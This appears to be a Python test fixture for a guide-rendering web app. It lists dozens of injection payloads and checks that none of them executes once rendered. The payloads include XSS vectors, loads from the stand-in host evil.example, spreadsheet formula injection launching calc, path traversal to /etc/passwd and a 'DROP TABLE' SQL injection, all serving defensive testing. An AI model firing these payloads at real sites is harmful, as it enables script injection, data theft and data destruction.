"""Texts that try to become a script, a style, a request, a formula or a path, for every field that takes text.

Each names itself by `window.hit`, or asks a computer that does not exist; tests see both.
"""

HIT = "window.hit=1"
ASK = "http://evil.example/x"

PAYLOADS = [
    f"<script>{HIT}</script>",
    f"</script><script>{HIT}</script>",
    f"<ScRiPt>{HIT}</sCrIpT>",
    f"<script src={ASK}></script>",
    f"<script/x>{HIT}</script>",
    f"<<script>script>{HIT}<</script>/script>",
    f"<img src=x onerror={HIT}>",
    f"<img src={ASK} onload={HIT}>",
    f"<svg onload={HIT}>",
    f"<svg><script>{HIT}</script></svg>",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{HIT}>x",
    f"<iframe srcdoc='<script>parent.{HIT}</script>'></iframe>",
    f"<iframe src=javascript:{HIT}></iframe>",
    f"<object data=javascript:{HIT}></object>",
    f"<embed src=javascript:{HIT}>",
    f"<body onload={HIT}>",
    f"<input autofocus onfocus={HIT}>",
    f"<details open ontoggle={HIT}>",
    f"<video src=x onerror={HIT}></video>",
    f"<audio src={ASK} autoplay></audio>",
    f"<link rel=stylesheet href={ASK}>",
    f"<link rel=prefetch href={ASK}>",
    f"<style>@import '{ASK}';</style>",
    f"<style>body{{background:url({ASK})}}</style>",
    f"<base href={ASK}>",
    f"<meta http-equiv=refresh content='0;url={ASK}'>",
    f"<form action={ASK}><button autofocus>x</button></form>",
    f"<a href=javascript:{HIT}>x</a>",
    f"<a href='{ASK}' ping='{ASK}'>x</a>",
    f"javascript:{HIT}",
    f"\" onfocus={HIT} autofocus x=\"",
    f"' onmouseover={HIT} x='",
    f"\"><script>{HIT}</script>",
    f"'><script>{HIT}</script>",
    f"--><script>{HIT}</script>",
    f"]]><script>{HIT}</script>",
    f"</title><script>{HIT}</script>",
    f"</textarea><script>{HIT}</script>",
    f"</style><script>{HIT}</script>",
    f"</noscript><script>{HIT}</script>",
    f"</template><script>{HIT}</script>",
    f"<!--<script>{HIT}</script>",
    f"{{{{{HIT}}}}}",
    f"{{{{{{page.title}}}}}}{{{{{{{HIT}}}}}}}",
    "{{>layout}}{{#page}}{{/page}}",
    f"${{{HIT}}}",
    f"`${{{HIT}}}`",
    f"\\u003cscript\\u003e{HIT}\\u003c/script\\u003e",
    f"&lt;script&gt;{HIT}&lt;/script&gt;",
    f"%3Cscript%3E{HIT}%3C/script%3E",
    f"\";{HIT};//",
    f"';{HIT};//",
    f"\\\";{HIT};//",
    "\u2028\u2029\\",
    "\u202e<tpircs>\u202c",
    "\ufeff\u200b\u200d",
    "=HYPERLINK(\"" + ASK + "\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "../../../../etc/passwd",
    "'; DROP TABLE event; --",
    "__proto__",
    "constructor",
    "A" * 5000,
    "\u0300" * 200,
    "\U0001f469\u200d\U0001f52c" * 50,
    "<b>bold</b> & \"quoted\" – Größe",
]
#: all that are not there for their length, many in one text
SHORT = [text for text in PAYLOADS if len(text) < 200]
GROUPS = ["\n".join(SHORT[at:at + 12]) for at in range(0, len(SHORT), 12)]

GUIDE = """---
guide: 1
id: hostile
title: {0}
lang: en
author: {1}
note: {2}
---

# {0}

{3}

> {4}

## {5} {{#first}}

{6}

1. {7} {{#open_one}}
   - {8}
   - Check: {9}
   - Prompt: {10}
   > {11}

2. {12} {{#choose_one}}
   - ( ) a = {13}
   - ( ) b = {14}
   - ( ) c = {15}: ____

3. {16} {{#choose_many}}
   - [ ] a = {17}
   - [ ] b = {18} {{exclusive}}

4. {19} {{#scaled}}
   [scale 1..5: {20} | {21}]

5. {22} {{#counted}}
   [number 0..50 "{23}"]

## {24} {{#second handover}}

6. {25} {{#answered_alone}}
   - ( ) a = {26}
   - ( ) b = {27}

7. {28} {{#written_alone}}
   [text]
"""


def one_line(text):
    """A payload as it may stand inside a line of a guide: what the grammar would read is escaped."""
    words = " ".join(text.replace("\u2028", " ").replace("\u2029", " ").split()) or "x"
    for sign in "\\{}":
        words = words.replace(sign, "\\" + sign)
    words = words.replace("<!--", "<!-").replace("|", "/").replace('"', "”")
    return "x" + words if words[0] in "-=+@#>" else words


def guides(count=29):
    """Guides that have every payload in some place, turn by turn: (number, text)."""
    usable = [one_line(text) for text in PAYLOADS if len(text) < 1000]
    for number in range(0, len(usable), 12):
        turned = usable[number:] + usable[:number]
        yield number, GUIDE.format(*turned[:count])


ODD = """() => [...document.querySelectorAll('iframe, object, embed, base, meta[http-equiv], math, animate, ' +
    'script:not([src]):not([type="application/json"]), style, [onerror], [onload], [onfocus], [autofocus], a[href^="javascript:"], ' +
    'form[action^="http"], img[src*=evil], [ping]')].filter((e) => !(e.matches('style') && e.id.startsWith('axe'))).map((e) => e.outerHTML.slice(0, 200))"""


def harmless(page, allowed=()):
    """That nothing of a text became more than text. `allowed`: elements of the page's own, as beginnings of HTML."""
    assert page.evaluate("() => window.hit === undefined"), f"a script ran at {page.url}"
    odd = [html for html in page.evaluate(ODD) if not html.startswith(tuple(allowed))]
    assert not odd, f"{page.url}: {odd}"


def shows(page, texts):
    """That those of the texts which name themselves are words on the page: what is not there proves nothing."""
    words = page.locator("body").text_content()
    missing = [text for text in texts if "window.hit" in text and text not in words]
    assert not missing, f"{page.url} does not show {missing}"
